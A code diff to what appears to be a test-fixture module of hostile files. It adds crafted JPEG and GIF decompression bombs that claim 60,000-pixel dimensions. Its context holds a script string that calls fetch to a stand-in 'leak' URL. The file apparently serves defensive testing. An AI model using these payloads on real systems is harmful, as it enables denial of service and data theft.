@@ -4,6 +4,7 @@ import { strToU8, zipSync } from 'fflate';
 import { PNG } from 'pngjs';
 import { pdfOf } from './pdfs';
 import { movieOf } from './recordings';
+import { jpegWith, plainJpeg, withMarkedCorner } from './turned-pictures';
 
 const script = 'document.title = "ran"; fetch("https://example.com/leak"); alert("ran")';
 
@@ -15,6 +16,24 @@ function pictureBomb(): Buffer {
   // With its checksum put right it is taken at its word.
   png.writeUInt32BE(checksum(png.subarray(12, 29)), 29);
   return png;
+}
+
+/** A picture that says the same of itself, behind more of what decoders pass over than anybody reads at first. */
+function paddedBomb(): Buffer {
+  const photo = plainJpeg(withMarkedCorner(8, 8));
+  const frame = photo.indexOf(Buffer.from([0xff, 0xc0]));
+  photo.writeUInt16BE(60_000, frame + 5);
+  photo.writeUInt16BE(60_000, frame + 7);
+  const padding = Buffer.alloc(65_537);
+  padding.writeUInt32BE(0xffe2ffff, 0);
+  return jpegWith(photo, ...Array.from({ length: 6 }, () => padding));
+}
+
+/** A GIF of one point, of which the first frame is of 60,000 by 60,000 px: windows make room for it. */
+function frameBomb(): Buffer {
+  const screen = Buffer.from('GIF89a\x01\0\x01\0\x80\0\0\0\0\0\xff\xff\xff', 'latin1');
+  const frame = Buffer.from([0x2c, 0, 0, 0, 0, 0x60, 0xea, 0x60, 0xea, 0, 2, 2, 0x4c, 1, 0, 0x3b]);
+  return Buffer.concat([screen, frame]);
 }
 
 function checksum(bytes: Uint8Array): number {
@@ -52,6 +71,8 @@ export interface HostileFile {
 
 export const hostileFiles: readonly HostileFile[] = [
   { name: 'bomb.png', content: pictureBomb() },
+  { name: 'padded.jpg', content: paddedBomb() },
+  { name: 'frame.gif', content: frameBomb() },
   { name: 'cut.jpg', content: Buffer.from('ffd8ffe000104a46494600010100000100010000ffdb004300', 'hex') },
   {
     name: 'drawing.svg',
